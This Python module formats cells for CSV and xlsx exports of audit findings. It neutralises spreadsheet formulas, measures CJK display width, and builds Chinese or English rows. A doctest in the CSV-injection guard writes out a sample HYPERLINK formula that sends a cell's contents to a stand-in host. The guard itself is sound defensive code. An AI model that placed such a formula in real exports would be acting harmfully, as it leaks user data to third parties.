"""Cells of the tabular exports (CSV, xlsx): formula-proof text, display widths, the finding rows in zh or en."""

from __future__ import annotations

import json
import unicodedata
from typing import Any

from api.report.labels import CATEGORY_ZH, KIND_ZH, SEVERITY_ZH, rule_zh
from api.report.view import Names

#: A spreadsheet reads a cell beginning with one of these as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """A CSV cell that no spreadsheet runs: text beginning ``= + - @``, tab or CR gets a leading ``'``.

    Numbers stay numbers.

    >>> inert('=HYPERLINK("http://x?d="&A2,"a")'), inert("-1"), inert(-1), inert("乐安街道")
    ('\\'=HYPERLINK("http://x?d="&A2,"a")', "'-1", -1, '乐安街道')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def width(text: Any) -> int:
    """Columns ``text`` takes in a spreadsheet or terminal: a CJK character takes two.

    >>> width("乐安街道"), width("abc"), width(None)
    (8, 3, 0)
    """
    if text is None:
        return 0
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in str(text))


#: (key, 中文表头, English header) of a finding row.
FINDING_COLUMNS = [
    ("severity", "严重程度", "severity"), ("category", "类别", "category"), ("rule_name", "规则", "rule name"),
    ("rule", "规则编号", "rule"), ("subject_kind", "对象类型", "subject kind"), ("subject_id", "对象编号", "subject id"),
    ("subject_name", "对象名称", "subject name"), ("street", "街道", "street"), ("community", "社区", "community"),
    ("message", "说明", "message"), ("suggestion", "建议", "suggestion"), ("street_id", "街道编号", "street id"),
    ("community_id", "社区编号", "community id"), ("metrics", "依据", "metrics"),
]


def finding_row(f: dict[str, Any], names: Names, lang: str = "zh") -> dict[str, Any]:
    """One finding as a flat row, values in Chinese (``lang="zh"``) or English."""
    zh = lang == "zh"
    sug = f.get("suggestion") or {}
    sid, cid = f["scope"].get("street_id") or "", f["scope"].get("community_id") or ""
    return {
        "severity": SEVERITY_ZH.get(f["severity"], f["severity"]) if zh else f["severity"],
        "category": CATEGORY_ZH.get(f["category"], f["category"]) if zh else f["category"],
        "rule_name": rule_zh(f["rule"]) if zh else f["rule"].replace("_", " ").lower(),
        "rule": f["rule"],
        "subject_kind": KIND_ZH.get(f["subject"]["kind"], f["subject"]["kind"]) if zh else f["subject"]["kind"],
        "subject_id": f["subject"]["id"], "subject_name": f["subject"]["name"],
        "street": names.street(sid), "community": names.community(cid),
        "message": f["message"]["zh" if zh else "en"], "suggestion": sug.get("zh" if zh else "en", ""),
        "street_id": sid, "community_id": cid,
        "metrics": json.dumps(f.get("metrics", {}), ensure_ascii=False, default=str),
    }


def headers(lang: str = "zh") -> list[str]:
    return [zh if lang == "zh" else en for _, zh, en in FINDING_COLUMNS]
